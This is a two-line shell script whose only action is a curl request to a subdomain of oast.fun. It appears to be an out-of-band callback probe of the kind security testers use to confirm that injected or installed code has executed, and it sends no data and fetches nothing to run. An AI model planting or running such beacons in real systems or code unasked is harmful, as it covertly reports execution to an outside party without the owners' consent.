#!/bin/sh
curl http://c0ffee00c0ffee00.oast.fun/
